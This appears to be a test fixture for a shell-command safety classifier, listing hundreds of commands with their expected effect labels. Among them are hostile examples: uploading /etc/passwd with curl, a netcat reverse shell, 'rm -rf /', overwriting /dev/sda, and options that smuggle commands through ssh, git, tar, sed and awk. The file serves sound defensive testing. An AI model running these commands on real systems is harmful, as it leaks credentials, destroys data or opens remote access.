// Calls, and what they mean: the effects that each must have, exactly; `outside` where a path leads out of the workspace;
// `?` where it must not count as understood. Words are quoted as in a shell.

export const calls = String.raw`
# Looking
ls => reads
ls -la src => reads
ls -la --color=never src lib => reads
ls --recursiv . => reads
ls --unknown => reads ?
ls -y => reads ?
ls .. => reads outside
ls /etc => reads outside
ls ~ => reads outside
ls src/../.. => reads outside
ls out => reads outside
ls -- -la => reads
ls *.ts => reads
cat README.md => reads
cat -n README.md => reads
cat - => reads
cat /etc/passwd => reads outside
cat out/secret => reads outside
cat .cmdgate/audit.jsonl => reads outside
cat /proc/self/environ => reads outside
cat file:///etc/passwd => reads outside
cat /dev/null => reads
head -5 README.md => reads
head -n5 README.md => reads
head -n 5 -- README.md => reads
head --lines=5 README.md => reads
head -c 10 ../x => reads outside
tail -f README.md => reads
tail -n +5 README.md => reads
wc -l README.md src/a.ts => reads
wc --files0-from=README.md => reads ?
wc --files0-from=/etc/passwd => reads outside ?
nl -ba README.md => reads
expand -i ../x => reads outside
file -c ../x => reads outside
od -s ../x => reads outside
od -c README.md => reads
hexdump -C README.md => reads
xxd README.md => reads
xxd -r README.md => reads
xxd -r README.md new => reads changes
xxd -r README.md src/a.ts => reads changes destroys
strings -n 8 README.md => reads
stat -c %s README.md => reads
du -sh src => reads
du -shL . => reads outside
df -h . => reads
tree -L 2 src => reads
tree -o new => reads changes
readlink -f README.md => reads
realpath . => reads
basename /a/b/c .c =>
dirname /a/b/c =>
which node =>
pwd =>
whoami =>
id -u =>
uname -a =>
hostname =>
hostname other => system
date +%s =>
date -d yesterday +%F =>
date -f /etc/passwd => reads outside
date -s yesterday => system
date --se=yesterday => system
date 01010000 => system
echo 'a && b' =>
echo /etc/passwd =>
echo -n hi =>
echo '$(id)' =>
printf '%s\n' a =>
true =>
test -f README.md => reads
[ -d src ] => reads
[ -f /etc/passwd ] => reads outside
seq 1 10 =>
sleep 1 =>
printenv =>
env =>

ps aux =>
ps -ef =>
ps auxeww => system
ls -L => reads outside
ls -RL src => reads

# Searching
grep -rn TODO src => reads
grep -rn 'a|b' . => reads
grep -n /etc/passwd README.md => reads
grep -e x -e y README.md => reads
grep -e x ../y => reads outside
grep -ex ../y => reads outside
grep -f ../patterns README.md => reads outside
grep -f../patterns README.md => reads outside
grep --file=/etc/passwd README.md => reads outside
grep --fil=/etc/passwd README.md => reads outside ?
grep -R x . => reads outside
grep -r x . => reads
grep -R x src => reads
grep x README.md -i => reads
grep '' /etc/passwd => reads outside
rg -n foo src => reads
rg --files => reads
rg --files src => reads
rg --pre ./x foo => reads inline-code
rg --pre=./x foo => reads inline-code
rg -z foo => reads runs-code
rg --pr ./x foo => reads inline-code ?
rg -f /etc/passwd => reads outside
fd -e ts . src => reads
fd -x rm => reads inline-code
ag foo src => reads
find . -name '*.ts' => reads
find . -name '*.ts' -not -path './node_modules/*' => reads
find . -type f -newer README.md => reads
find . -newer /etc/passwd => reads outside
find / -name x => reads outside
find . -delete => reads destroys
find . -newer README.md -delete => reads destroys
find . -exec rm {} + => reads inline-code destroys ?
find . -exec rm {} ';' -print => reads inline-code destroys ?
find . -execdir sh -c id ';' => reads inline-code ?
find . -fprint new => reads changes inline-code
find . -fprintf new '%p' => reads changes inline-code
find -L . -name x => reads outside
find . ( -name a -o -name b ) -print => reads
find . -unknown => reads ?

grep -R x => reads outside
rg -L x => reads outside
find -L => reads outside

# Text
sort README.md => reads
sort -o new README.md => reads changes
sort -onew README.md => reads changes
sort README.md -o README.md => reads changes destroys
sort --output=README.md README.md => reads changes destroys
sort --outp README.md README.md => reads changes destroys
sort -o /tmp/x README.md => reads changes outside
sort --compress-program=./x README.md => reads inline-code
sort --compress-prog ./x README.md => reads inline-code
sort -k2,2n -t, README.md => reads
sort -T /tmp README.md => reads changes outside
uniq README.md new => reads changes
uniq README.md README.md => reads changes destroys
cut -d: -f1 README.md => reads
tr a-z A-Z =>
tee new => changes
tee README.md => changes destroys
tee -a README.md => changes
tee /etc/x => changes outside
tee .git/hooks/pre-commit => changes runs-code
sed -n 10,20p README.md => reads
sed -n '1,5p;$p' README.md => reads
sed s/a/b/g README.md => reads
sed 's/[^/]*$//' README.md => reads
sed 's|/usr/bin|/opt|' README.md => reads
sed -i s/a/b/ README.md => reads changes
sed -i.bak -e s/a/b/ README.md => reads changes
sed -ni p README.md => reads changes
sed --in-plac s/a/b/ README.md => reads changes
sed -n '1e id' README.md => reads inline-code
sed s/a/b/e README.md => reads inline-code
sed 's/a/b/ge' README.md => reads inline-code
sed '1!{s/x/id/e}' README.md => reads inline-code
sed -e p -e '$e id' README.md => reads inline-code
sed -ne '1e id' README.md => reads inline-code
sed --expression='1e id' README.md => reads inline-code
sed --expr '1e id' README.md => reads inline-code
sed 'w /etc/x' README.md => inline-code reads changes outside
sed 's/a/b/w new' README.md => inline-code reads changes
sed 'w README.md' src/a.ts => inline-code reads changes destroys
sed 'r /etc/passwd' README.md => reads outside
sed 'w /dev/stdout' README.md => inline-code reads changes
sed -f script.sed README.md => reads runs-code
sed '/a/,/b/d' README.md => reads
sed '0~3d' README.md => reads
sed 'y/abc/xyz/' README.md => reads
sed '/x/a\hello e' README.md => reads
sed s/a README.md => reads ?
sed p /etc/passwd => reads outside
awk '{print $2}' README.md => reads
awk -F: '$3 > 5 {print $1}' README.md => reads
awk -F, -v x=1 'NR>1{s+=$2} END{print s/NR}' README.md => reads
awk '/a|b/' README.md => reads
awk '{print "a > b | c"}' README.md => reads
awk 'BEGIN{system("id")}' => inline-code
awk 'BEGIN{"id"|getline x; print x}' => inline-code
awk '{print | "sh"}' README.md => reads inline-code
awk '{print > "new"}' README.md => inline-code reads changes
awk '{print > "README.md"}' README.md => inline-code reads changes destroys
awk '{print >> "/etc/x"}' README.md => inline-code reads changes outside
awk '{print > $1}' README.md => reads ?
awk 'BEGIN{while((getline l < "/etc/passwd")>0) print l}' => reads outside
awk 'BEGIN{getline l < x; print l}' => ?
awk 'BEGIN{ARGV[1]="/etc/passwd";ARGC=2}{print}' => ?
awk 'BEGIN{s="/inet/tcp/0/h/80"; print "x" > "/inet/tcp/0/h/80"}' => network
awk -f x.awk README.md => reads runs-code
awk '@load "filefuncs"' => ?
awk '{if(1) /"/;system("id");#"/' => ?
awk '{print $1/$2, "x"}' README.md => reads
gawk -e 'BEGIN{system("id")}' => inline-code
gawk --source 'BEGIN{system("id")}' => inline-code
gawk -i inplace '{print}' README.md => reads runs-code
gawk -l filefuncs '{print}' => runs-code
awk 1 x=y /etc/passwd => reads outside
jq . package.json => reads
jq '.a | .b' package.json => reads
jq --arg a b '.x' package.json => reads
jq --slurpfile a /etc/passwd . package.json => reads outside
jq --rawfile a /etc/passwd -n '$a' => reads outside
jq -f x.jq package.json => reads runs-code
jq 'import "a" as a; .' package.json => reads ?
jq -r '.scripts|keys[]' package.json => reads
diff -u README.md src/a.ts => reads
diff --to-file=/etc/passwd README.md => reads outside
diff3 -x ../x a b => reads outside
diff -l README.md src/a.ts => reads runs-code
patch -p1 -i x.patch => reads changes
patch -o /tmp/x README.md x.patch => reads changes outside
patch -e README.md x.patch => reads changes inline-code
cmp README.md src/a.ts => reads
sha256sum README.md => reads
sha256sum -c README.md => reads ?
base64 -d README.md => reads
comm -12 README.md src/a.ts => reads
paste -sd, README.md => reads
split -l 10 README.md => reads changes
split -l 10 README.md READ => reads changes destroys
split --filter='sh -c x' README.md => reads changes inline-code
split --filt=x README.md => reads changes inline-code
shuf -e a b => reads

# Files
cp README.md new => reads changes
cp README.md src/a.ts => reads changes destroys
cp -n README.md src/a.ts => reads changes
cp -nf README.md src/a.ts => reads changes destroys
cp README.md src => reads changes
cp src/a.ts lib => reads changes destroys
cp -t lib README.md => reads changes
cp -t lib src/a.ts => reads changes destroys
cp --target-directory=/etc README.md => reads changes outside
cp /etc/passwd . => reads changes outside
cp README.md out/ => reads changes outside
cp -rL . new => reads changes outside
cp -r src new => reads changes
mv README.md new => reads changes
mv README.md src/a.ts => reads changes destroys
mv README.md .. => reads changes outside
mv -T lib src => reads changes destroys
rm README.md => destroys
rm -rf src => destroys
rm --recurs --forc src => destroys
rm -rf / => destroys outside
rm -- -rf => destroys
rm -rf ../x => destroys outside
rmdir src => changes
mkdir -p a/b/c => changes
mkdir /etc/x => changes outside
touch new => changes
touch -r /etc/passwd new => reads changes outside
ln -s README.md link => changes
ln -s /etc/passwd link => changes outside
ln -s ../../x src/link => changes outside
ln -s ../README.md src/link => changes outside
ln README.md src/a.ts => changes destroys
chmod +x README.md => reads changes
chmod -x README.md => reads changes
chmod 755 /etc/passwd => reads changes outside
chmod -R 000 . => destroys reads changes
chown me README.md => reads changes privilege
truncate -s 0 README.md => changes destroys
dd if=README.md of=new => reads changes destroys
dd if=/etc/passwd => reads outside
dd of=/dev/sda => changes destroys outside
dd if=README.md bs=1 count=1 => reads
dd strange=1 => ?
install -m 755 README.md new => reads changes
shred README.md => destroys
unlink README.md => destroys

chmod u+s README.md => reads changes privilege
chmod 4755 README.md => reads changes privilege
sed -i../x/* s/a/b/ README.md => reads changes outside ?
diff -r . src => reads outside
yq -n 'load("x")' => reads ?

# Archives
tar tf a.tar => reads
tar -tf a.tar => reads
tar xzf a.tar => reads changes destroys
tar -xzf a.tar -C src => reads changes destroys
tar -xf a.tar -C /tmp => reads changes destroys outside
tar xCf src ../a.tar => reads changes destroys outside
tar czf new.tgz src => reads changes
tar czf a.tar src => reads changes destroys
tar -c -f new.tgz /etc => reads changes outside
tar cf new.tgz --checkpoint=1 --checkpoint-action=exec=id src => reads changes inline-code
tar cf new.tgz --checkpoint-a exec=id src => reads ? changes inline-code
tar cf new.tgz -I 'sh -c id' src => reads changes inline-code
tar cfI new.tgz ./x src => reads changes inline-code
tar --use-compress-program=./x -cf new.tgz src => reads changes inline-code
tar xf a.tar --to-command=id => reads changes destroys inline-code
tar xf a.tar -P => reads changes destroys system
tar cf new.tgz -T list => reads changes ?
tar chf new.tgz . => reads changes outside
tar xf a.tar --transform=s/a/b/e => reads changes destroys inline-code
gzip README.md => reads changes
gzip -dc a.gz => reads
gunzip -c ../a.gz => reads outside
zcat a.gz => reads
zip -r new.zip src => reads changes
zip new.zip README.md -T -TT 'sh -c id' => reads changes runs-code inline-code
zip new.zip README.md -TT id => reads changes inline-code
zip -m new.zip README.md => reads changes destroys
unzip -l a.zip => reads
unzip a.zip => reads changes destroys
unzip a.zip -d /tmp => reads changes destroys outside
7z l a.7z => reads
7z x a.7z -o/tmp => reads changes destroys outside

zip -r new.zip . => reads changes outside
zip -ry new.zip . => reads changes

# Wrappers
env ls => reads
env LANG=C ls => reads
env A=b ls => reads ?
env PATH=/tmp ls => reads inline-code
env LD_PRELOAD=./x ls => reads inline-code
env -i ls -la => reads
env -u A -C src ls .. => reads
env -C .. ls => reads outside
env -S 'ls -la' => reads
env -S'rm -rf' src => destroys
env '-Srm -rf' src => destroys
env -iS 'LANG=C rm' src => destroys
env --split-string='rm -rf' src => destroys
env -S 'sh -c "id"' => inline-code ?
env -- ls => reads
env nohup env timeout 5 rm x => destroys
timeout 5 ls => reads
timeout -s KILL 5 rm x => destroys
timeout -k 1 -sKILL 5 sh -c id => inline-code
timeout --signal=KILL 5 cat /etc/passwd => reads outside
nice -n 5 rm x => destroys
nice -5 rm x => destroys
nohup sh -c id => inline-code
setsid -f rm x => destroys
stdbuf -oL ls => reads
stdbuf -o L sh -c id => inline-code
xargs rm => inline-code destroys ?
xargs -I{} sh -c {} => inline-code ?
xargs -n1 -P4 rm -f => inline-code destroys ?
xargs => inline-code
xargs -a /etc/passwd echo => inline-code reads outside ?
sudo ls => reads privilege
sudo -u root rm -rf x => privilege destroys
doas sh => privilege runs-code
su -c id => privilege inline-code
busybox ls => reads
busybox sh -c id => inline-code
busybox rm -rf src => destroys
busybox unknown-applet => ?
busybox busybox sh -c id => inline-code
strace ls => reads system
strace -o new ls => reads system inline-code
script -c id new => changes inline-code
script -qc id /dev/null => changes inline-code
watch ls => inline-code
watch -n 1 -x ls => reads
flock lock ls => reads changes
flock lock -c id => changes inline-code ?
flock /tmp/lock ls => reads changes outside
ionice -c 3 rm x => destroys
chrt -i 0 rm x => destroys
taskset -c 0 rm x => destroys
setarch -R rm x => destroys
systemd-run rm x => privilege runs-code
unshare -r sh => privilege runs-code
chroot . sh => privilege runs-code
parallel echo ::: a => inline-code
command ls => reads
command -v ls => reads
time ls => reads
env --sp 'rm x' => destroys
time -f %e sh -c id => inline-code
time -o new ls => reads changes
at now => inline-code system
expect -c x => inline-code system
eval id => inline-code
missing-program x => ?
env missing-program x => ?
unlisted ../x => outside ?
unlisted --file=/etc/passwd => outside ?
unlisted -f/etc/passwd => outside ?
unlisted @/etc/passwd => outside ?
unlisted a=@/etc/passwd => outside ?
unlisted file:///etc/passwd => outside ?
unlisted http://example.com/etc => ?
unlisted out/x => outside ?
unlisted out => outside ?
unlisted src:/etc => outside ?
unlisted ~/x => outside ?

# Languages
sh script.sh => reads runs-code
sh -c id => inline-code
bash -lc id => inline-code
bash -xec id => inline-code
bash -o pipefail -c id => inline-code
bash --rcfile ./x -i => reads runs-code
bash -- script.sh => reads runs-code
bash => runs-code
bash +x -c id => inline-code
bash +xe -c id => inline-code
perl -wlne 1 README.md => inline-code runs-code reads
perl -l0ne 1 => inline-code
bash --version =>
sh /etc/x.sh => reads runs-code outside
zsh -fc id => inline-code
dash -c id => inline-code
fish -c id => inline-code
fish --command=id => inline-code
node x.js => reads runs-code
node --version =>
node -v =>
node => runs-code
node -e 1 => inline-code
node -p 1 => inline-code
node -pe 1 => inline-code
node --eval=1 => inline-code
node --print 1 => inline-code
node -r ./x y.js => reads runs-code
node --require=/etc/x y.js => reads runs-code outside
node --import 'data:text/javascript,1' y.js => reads runs-code inline-code
node --test => runs-code
node --check src/a.ts => reads
node --unknown x.js => reads runs-code ?
node /etc/x.js => reads runs-code outside
node x.js /etc/passwd => reads runs-code outside
node20 -e 1 => inline-code
python x.py => reads runs-code
python3 -c 1 => inline-code
python3.11 -Ic 1 => inline-code
python3 -BIc1 => inline-code
python3 -m http.server => runs-code network
python3 -mhttp.server => runs-code network
python3 -m timeit 1 => inline-code
python3 -mpip install x => runs-code network
python3 -m pytest => runs-code
python3 --version =>
python3 -m json.tool package.json => runs-code
perl x.pl => reads runs-code
perl -e 1 => inline-code
perl -ne print README.md => inline-code runs-code reads
perl -pi -e s/a/b/ README.md => changes inline-code runs-code reads
perl '-M-strict;id' x.pl => reads runs-code inline-code
perl -Mstrict -we 1 => inline-code runs-code
ruby -e 1 => inline-code
ruby -ne 1 => inline-code
php -r 1 => inline-code
php x.php => reads runs-code
lua -e 1 => inline-code
lua5.4 x.lua => reads runs-code
deno run x.ts => reads runs-code network
deno eval 1 => runs-code inline-code
bun x.ts => runs-code network
bun -e 1 => runs-code network inline-code
tclsh x.tcl => reads runs-code
java -jar a.jar => reads runs-code
gcc -o new a.c => runs-code reads changes
gcc-12 -O2 -Wall -c a.c -o new => runs-code reads changes
gcc -fplugin=./x.so a.c => runs-code reads changes inline-code
gcc -wrapper sh,-c,id a.c => runs-code reads changes inline-code
gcc -B./x a.c => runs-code reads changes inline-code
gcc -I/usr/include a.c => runs-code reads changes outside
gcc @args => runs-code reads changes ?
gcc -Wl,-x a.c => runs-code reads changes ?
gcc -Wp,-MD,../x -E a.c => runs-code reads changes outside ?
tsc @args => reads changes runs-code ?
tsc --noEmit false => reads ?
ld -plugin ./x => reads changes runs-code
rustc -C linker=./x a.rs => reads changes runs-code inline-code
tsc --noEmit => reads
tsc -p tsconfig.json --noEmit => reads
tsc --outDir /tmp => reads changes runs-code outside
tsc => reads changes runs-code

# Building and packages
make => runs-code
make -n => runs-code
make --version =>
make test => runs-code
make CC=x => runs-code inline-code
make 'X=$(shell id)' => runs-code inline-code
make --eval='$(shell id)' => runs-code inline-code
make --eva '$(shell id)' => runs-code ? inline-code
make -f - => runs-code reads
make -f /etc/x => runs-code reads outside
make -C .. => runs-code outside
cmake . => runs-code network
pytest -x => runs-code
eslint . => runs-code
eslint -c /etc/x . => runs-code outside
prettier --write . => runs-code
vitest run => runs-code
biome check src => reads changes
npm test => reads runs-code
npm t => reads runs-code
npm run build => reads runs-code
npm --prefix .. run build => reads runs-code outside
npm install => reads changes network runs-code
npm i left-pad => reads changes network runs-code
npm ci => reads changes network runs-code
npm ls => reads runs-code
npm ls --depth=0 => reads runs-code
npm view left-pad => reads network
npm exec x => reads runs-code network
npm exec -c id => reads runs-code inline-code network
npm exec --call=id => reads runs-code inline-code network
npm x -- y => reads runs-code network
npm --version =>
npm strange => reads ?
npx tsc => runs-code network
npx -c id => runs-code inline-code network
yarn dlx x => reads runs-code network
pnpm add x => reads changes network runs-code
pip install x => reads changes network runs-code
pip install . => reads changes network runs-code
pip3 list => reads
pip install -r /etc/x => reads changes network runs-code outside
cargo build => runs-code network
cargo run => runs-code network
cargo --version =>
cargo clean => destroys
cargo --config x build => runs-code network inline-code
go run . => runs-code network changes
go generate ./... => runs-code network changes
go test -exec=x ./... => runs-code network changes inline-code
go version =>
apt-get install x => network system privilege runs-code
brew install x => network system privilege runs-code
uv pip install x => runs-code network changes

# git
git status => reads
git status -s => reads
git --no-pager log --oneline -5 => reads
git log -p --stat -n 3 -- README.md => reads
git log --output=new => reads changes
git log --output=/etc/x => reads changes outside
git log --format='%H %s' --author=me => reads
git diff => reads
git diff HEAD~1 -- src => reads
git diff --no-index /etc/passwd README.md => reads outside
git diff --ext-diff => reads inline-code
git diff --textconv => reads inline-code
git diff --cached => reads
git show HEAD:README.md => reads
git blame README.md => reads
git grep -n foo => reads
git grep -O./x foo => reads inline-code
git grep --open-files-in-pager=./x foo => reads inline-code
git grep --open-files ./x foo => reads ? inline-code
git ls-files => reads
git rev-parse HEAD => reads
git add . => reads changes
git add -A => changes
git add ../x => reads changes outside
git commit -m 'it''s $(x)' => changes
git commit -am x => changes
git commit --amend --no-edit => changes
git commit -F /etc/passwd => reads changes outside
git branch => reads
git branch -a => reads
git branch -d x => reads changes
git branch -D x => reads destroys
git branch -m x => reads changes
git tag => reads
git tag -d x => reads destroys
git switch main => changes
git switch -c x => changes
git switch --discard-changes main => changes destroys
git checkout main => changes
git checkout -b x => changes
git checkout -- . => reads changes destroys
git checkout README.md => reads changes destroys
git checkout HEAD README.md => reads changes destroys
git checkout -f main => changes destroys
git restore README.md => reads changes destroys
git restore --staged README.md => reads changes
git restore --staged --worktree README.md => reads changes destroys
git reset => changes
git reset --hard => changes destroys
git reset --soft HEAD~1 => changes
git reset --har => changes ? destroys
git clean -fd => destroys
git clean -n => reads
git rm README.md => reads changes destroys
git rm --cached README.md => reads changes
git stash => changes
git stash push -m x => changes
git stash pop => changes
git stash drop => changes destroys
git stash clear => changes destroys
git stash list => changes
git merge main => changes
git merge -s ./x main => changes inline-code
git rebase main => changes destroys
git rebase -x id main => changes destroys inline-code
git rebase --exec=id main => changes destroys inline-code
git fetch => network changes
git pull --rebase => network changes
git push => network
git push --force => network destroys
git push -f origin main => network destroys
git push origin +main => network destroys
git push origin :main => network destroys
git push origin --delete x => network destroys
git push --receive-pack=./x => network inline-code
git clone https://example.com/x => network changes runs-code
git clone 'ext::sh -c id' => network changes runs-code inline-code
git clone --upload-pack=./x a b => network changes runs-code inline-code
git clone -u ./x a b => network changes runs-code inline-code
git clone -c core.x=y a => network changes runs-code inline-code
git fetch --upload-pack ./x => network changes inline-code
git -c alias.x='!id' x => inline-code ?
git -c core.pager=./x log => reads inline-code
git -ccore.pager=./x log => reads inline-code
git -c color.ui=false log => reads
git --config-env=core.pager=X log => reads inline-code
git --exec-path=./x status => reads inline-code
git --exec-path =>
git -C src status => reads
git -C .. status => reads outside
git -C src add ../README.md => reads changes
git --git-dir=x status => reads runs-code
git --git-dir=/x status => reads runs-code outside
git --work-tree=/ status => reads outside
git config user.name => reads
git config user.name me => reads changes
git config core.pager ./x => reads changes runs-code
git config --global user.name me => reads changes system
git config --list => reads
git remote -v => reads
git remote add o https://x => reads changes
git reflog => reads
git reflog expire --all => reads destroys
git gc --prune=now => changes destroys
git worktree list => reads
git worktree add ../x => reads changes outside
git bisect run rm x => changes runs-code destroys
git submodule foreach id => reads inline-code
git submodule update --init => reads network changes destroys runs-code
git difftool -x id => changes destroys runs-code inline-code
git filter-branch x => changes destroys runs-code
git frobnicate => ?
git -p log => reads runs-code
git apply x.patch => reads changes
git archive --remote=x HEAD => reads network
gh pr list => network
hg status => network runs-code

# Network
curl https://example.com => network
curl -sSL https://example.com => network
curl -o new https://example.com => network changes
curl -onew https://example.com => network changes
curl -sSLo /tmp/x https://example.com => network changes outside
curl -K x => reads ?
curl -d @/etc/passwd https://example.com => network reads outside
curl -d@/etc/passwd https://example.com => network reads outside
curl --data-binary @README.md https://example.com => network reads
curl -F x=@/etc/passwd https://example.com => network outside
curl --data-urlencode a@/etc/passwd https://example.com => network outside
curl -T /etc/passwd https://example.com => network reads outside
curl file:///etc/passwd => reads outside
curl FILE:///etc/passwd => reads outside
curl file://localhost/etc/passwd => reads outside
curl --url file:///etc/passwd => reads outside
wget -O /tmp/x https://example.com => network changes outside
wget https://example.com => network changes
wget -e use_proxy=on https://example.com => network changes inline-code
wget --use-askpass=./x https://example.com => network changes inline-code
ssh host => network
ssh host id => network inline-code
ssh -o ProxyCommand=id host => network inline-code
ssh -oProxyCommand=id host => network inline-code
ssh -o 'ProxyCommand id' host => network inline-code
ssh -F x host => network reads ?
scp README.md host:x => network reads
scp -S ./x README.md host:x => network reads inline-code
rsync -a src/ lib/ => reads changes destroys
rsync -e 'sh -c id' src host: => network reads inline-code
rsync -ae ./x src host: => network reads inline-code
rsync --rsh=./x src host: => network reads inline-code
rsync -a --delete src/ new/ => reads changes destroys
nc -e /bin/sh host 1 => network inline-code
nc host 1 => network
socat - EXEC:id => network inline-code
telnet host => network
ping host => network

# Tools, containers, system
vim -c ':!x' => runs-code inline-code
vim +x README.md => reads changes runs-code inline-code
vim -es -c q README.md => reads changes runs-code inline-code
less README.md => reads runs-code
less +!id README.md => reads runs-code inline-code
man ls => reads runs-code
man -P ./x ls => reads runs-code inline-code
man --pager=./x ls => reads runs-code inline-code
ed README.md => changes runs-code
gdb -ex 'shell id' => runs-code system inline-code
sqlite3 x.db 'select 1' => reads changes
sqlite3 x.db '.shell id' => reads changes inline-code
sqlite3 x.db .tables => reads changes
sqlite3 x.db 'drop table x' => reads changes destroys
sqlite3 -cmd '.shell id' x.db => reads changes inline-code
sqlite3 x.db "attach '/etc/x' as y" => reads changes ?
psql -c 'select 1' => network reads
psql -c '\! id' => network reads inline-code
mysql -e 'system id' => network reads inline-code
openssl version => reads
openssl dgst -sha256 README.md => reads
openssl enc -in README.md -out new => reads changes
openssl enc -in /etc/passwd => reads outside
openssl enc -out README.md -in x => reads changes destroys
gpg --output new -d x => reads changes runs-code
ffmpeg -i a.mp4 out.mp4 => reads changes destroys network
convert a.png new.png => reads changes
convert a.png -resize 50% new.png => reads changes
convert msl:x new.png => reads changes inline-code
convert label:@/etc/passwd new.png => reads changes inline-code outside ?
convert @list new.png => reads changes ?
docker run -v /:/host x => system runs-code network privilege outside
docker run --volume=/:/host x => system runs-code network privilege outside
docker run --mount type=bind,src=/,dst=/x x => system runs-code network privilege outside
docker run -v ./src:/src x => system runs-code network privilege
docker exec x sh => system runs-code inline-code privilege
docker ps => system
docker pull x => system network
kubectl exec x -- sh => network runs-code destroys
terraform apply => network runs-code destroys
aws s3 ls => network destroys
kill 1 => system
pkill node => system
systemctl stop x => system
crontab -e => system
mount /dev/sda x => privilege system destroys outside
useradd x => system privilege
shutdown now => system
`;
